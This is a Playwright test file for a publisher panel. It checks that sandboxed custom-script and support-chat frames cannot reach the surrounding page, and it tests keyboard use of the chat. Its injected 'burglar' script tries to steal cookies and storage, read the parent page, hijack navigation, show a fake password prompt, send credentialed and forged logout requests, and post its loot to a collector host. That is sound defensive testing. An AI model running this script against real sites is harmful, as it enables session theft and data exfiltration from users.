import type { Request } from '@playwright/test';
import * as v from 'valibot';
import { framePaths } from '#contract/paths.ts';
import { expect, test } from '#tests/support/browser/journey.ts';
import { Keyboard } from '#tests/support/browser/keyboard.ts';
import { listener } from '#tests/support/servers/listener.ts';
import { manager } from '#tests/support/servers/manager.ts';

const Findings = v.record(v.string(), v.string());

/**
 * Tries whatever a script in a page could do to the panel around it, and tells its maker what came of it:
 * `got …` with the loot, or the name of the refusal.
 */
const burglar = (network: string, collector: string) =>
  `
(async () => {
  const found = {};
  const attempt = async (name, look) => {
    try { found[name] = 'got ' + String(await look()); } catch (error) { found[name] = error.name; }
  };
  const seen = (answer) => answer.text().then((text) => answer.status + ' ' + text.slice(0, 80));
  const api = '/publisher/api/';
  const base = 'ORIGIN';
  await attempt('cookie', () => document.cookie);
  await attempt('set cookie', () => { document.cookie = 'stolen=1; path=/'; return document.cookie; });
  await attempt('localStorage', () => JSON.stringify(localStorage));
  await attempt('sessionStorage', () => JSON.stringify(sessionStorage));
  await attempt('indexedDB', () => new Promise((done, fail) => {
    const request = indexedDB.open('x');
    request.onsuccess = () => done('opened');
    request.onerror = () => fail(request.error);
  }));
  await attempt('caches', () => caches.keys());
  await attempt('worker', () => navigator.serviceWorker.register('/publisher/sw.js'));
  await attempt('parent document', () => parent.document.body.innerHTML.slice(0, 80));
  await attempt('parent storage', () => parent.localStorage.length);
  await attempt('parent variable', () => { parent.hacked = true; return 'set'; });
  await attempt('frame element', () => window.frameElement === null ? Promise.reject({ name: 'nothing' }) : 'it');
  await attempt('top location', () => top.location.href);
  // By itself it may go where it likes.
  if (top !== self) await attempt('leave', () => { top.location.href = 'COLLECTOR'; return 'gone'; });
  await attempt('window', () => window.open('COLLECTOR') === null ? Promise.reject({ name: 'nothing' }) : 'opened');
  await attempt('dialog', () => window.confirm('Your password?') ? 'yes' : Promise.reject({ name: 'nothing' }));
  for (const credentials of ['include', 'same-origin'])
    await attempt('profile, ' + credentials, () => fetch(base + api + 'publishers/current', { credentials }).then(seen));
  await attempt('mailbox', () => fetch(base + '/mailbox', { credentials: 'include' }).then(seen));
  await attempt('page', () => fetch(base + '/publisher/dashboard', { credentials: 'include' }).then(seen));
  await attempt('stream', () => fetch(base + api + 'events', { credentials: 'include' }).then(seen));
  // Blind: nobody reads the answer, but it must do nothing either.
  const blind = { method: 'POST', mode: 'no-cors', credentials: 'include' };
  await fetch(base + api + 'logout', blind).catch(() => 0);
  await fetch(base + api + 'notifications/mark_read', { ...blind, body: '{}' }).catch(() => 0);
  parent.postMessage({ type: 'session.signOut' }, '*');
  parent.postMessage({ type: 'language', language: 'ru' }, '*');
  try { new BroadcastChannel('panel').postMessage({ type: 'language', language: 'ru' }); } catch {}
  found.origin = 'got ' + self.origin;
  found.referrer = 'got ' + document.referrer;
  await fetch('COLLECTOR', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
})();
`
    .replaceAll('COLLECTOR', collector)
    .replaceAll('ORIGIN', network);

const frames = { custom: framePaths.customJs, chat: framePaths.chat } as const;

/** What stands in a frame, to be put back; `off` where there is none. */
async function scriptsOf(origin: string, kind: keyof typeof frames): Promise<string> {
  const answer = await fetch(origin + frames[kind]);
  return (answer.ok && /<body>([\s\S]*)<\/body>/.exec(await answer.text())?.[1]) || 'off';
}

/** What it may know: that it is nobody, called by nobody. Everything else is a refusal. */
const nothing = { origin: 'got null', referrer: 'got ' };

test('hostile scripts, custom and chat, get nothing of the panel around them', async ({
  member,
  dashboard,
  header,
  page,
  network,
  expected,
}) => {
  // The browser says aloud what it refuses the frame; the panel itself has nothing to complain of.
  expected.push(/sandbox|CORS|Unsafe attempt|Blocked a frame|net::ERR|status of 40[13]|ERR_BLOCKED/i);
  const kinds = ['custom', 'chat'] as const;
  const collectors = { custom: await listener(), chat: await listener() };
  const before = {
    custom: await scriptsOf(network.origin, 'custom'),
    chat: await scriptsOf(network.origin, 'chat'),
  };
  const withCookies: string[] = [];
  const heardBy = async (request: Request) => {
    const { cookie } = await request.allHeaders();
    const from = request.frame();
    const own = from !== page.mainFrame() && !request.isNavigationRequest();
    if (own && cookie !== undefined) withCookies.push(`${request.url()} ${cookie}`);
  };
  const told: Promise<void>[] = [];
  page.on('request', (request) => {
    if (request.serviceWorker() === null) told.push(heardBy(request).catch(() => undefined));
  });
  try {
    await manager(network, 'notify', member.username, 'Nobody has read this');
    for (const kind of kinds) {
      const script = burglar(network.origin, collectors[kind].origin);
      await manager(network, 'scripts', kind, kind === 'chat' ? `<script>${script}</script>` : script);
    }
    await dashboard.open();
    await header.chat.click();
    for (const kind of kinds) {
      const { heard } = collectors[kind];
      await expect.poll(() => heard.length, { message: kind }).toBeGreaterThan(0);
      const found = v.parse(Findings, JSON.parse(heard[0] ?? '{}'));
      const loot = Object.entries(found).filter(([, what]) => what.startsWith('got '));
      expect(Object.fromEntries(loot), kind).toEqual(nothing);
      expect(Object.keys(found).length, kind).toBeGreaterThan(18);
    }

    await Promise.all(told);
    expect(withCookies).toEqual([]);
    // The panel is as it was: same page, same language, nothing read, still logged in.
    expect(page.url()).toMatch(/\/publisher\/dashboard/);
    expect(await page.evaluate(() => Reflect.has(window, 'hacked'))).toBe(false);
    await expect(page.locator('html')).toHaveAttribute('lang', 'en');
    expect(await member.session.status()).toBe(200);
    expect(await member.session.unseenNotifications()).toBe(1);
    const cookies = await page.context().cookies();
    expect(cookies.map(({ name }) => name)).not.toContain('stolen');

    // Called by itself, without the panel around it, it has no origin either.
    for (const kind of kinds) {
      const { heard } = collectors[kind];
      const already = heard.length;
      await page.goto(network.origin + frames[kind]);
      await expect.poll(() => heard.length, { message: kind }).toBeGreaterThan(already);
      const alone = v.parse(Findings, JSON.parse(heard.at(-1) ?? '{}'));
      expect(alone['origin'], kind).toBe('got null');
      expect(alone['cookie'], kind).toBe('SecurityError');
      expect(alone['profile, include'], kind).toBe('TypeError');
      expect(await member.session.status()).toBe(200);
    }
  } finally {
    for (const kind of kinds) {
      await manager(network, 'scripts', kind, before[kind]);
      collectors[kind].stop();
    }
  }
});

test('the support chat opens in a frame, keeps what was said, and is worked by keyboard alone', async ({
  signedIn,
  header,
  page,
}) => {
  await signedIn.open();
  const keys = new Keyboard(page);
  await keys.press(header.chat);
  const dock = page.getByRole('complementary', { name: 'Support chat' });
  await expect(dock).toBeFocused();
  const chat = dock.frameLocator('iframe');
  await keys.fill(chat.getByRole('textbox'), 'Is anybody there?');
  await page.keyboard.press('Enter');
  await expect(chat.getByText('Is anybody there?')).toBeVisible();
  const close = dock.getByRole('button', { name: 'Close the chat' });
  // Back out of the frame: over what is said in it to the button before it.
  await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Shift+Tab');
  await expect(close).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(dock).toBeHidden();
  await expect(header.chat).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(chat.getByText('Is anybody there?')).toBeVisible();
  await expect(dock).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(dock).toBeHidden();
  await expect(header.chat).toBeFocused();
});
